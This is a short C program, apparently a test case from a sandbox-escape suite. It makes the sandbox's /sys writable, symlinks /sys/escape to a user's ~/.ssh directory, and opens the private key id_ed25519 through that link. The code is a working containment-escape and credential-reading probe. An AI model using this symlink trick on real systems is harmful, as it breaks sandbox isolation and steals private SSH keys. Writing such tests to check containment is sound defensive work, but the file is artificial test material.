/* Whoever takes a folder for the kernel's own does not look where a link in it leads; the box's
 * /sys is a folder of the subject's. */
#include "escape.h"

#include <sys/stat.h>

int main(void)
{
    if (chmod("/sys", 0755) < 0 || symlink("/home/alex/.ssh", "/sys/escape") < 0)
        escape_broken("a link in /sys");
    escape_end_secret(open("/sys/escape/id_ed25519", O_RDONLY));
}
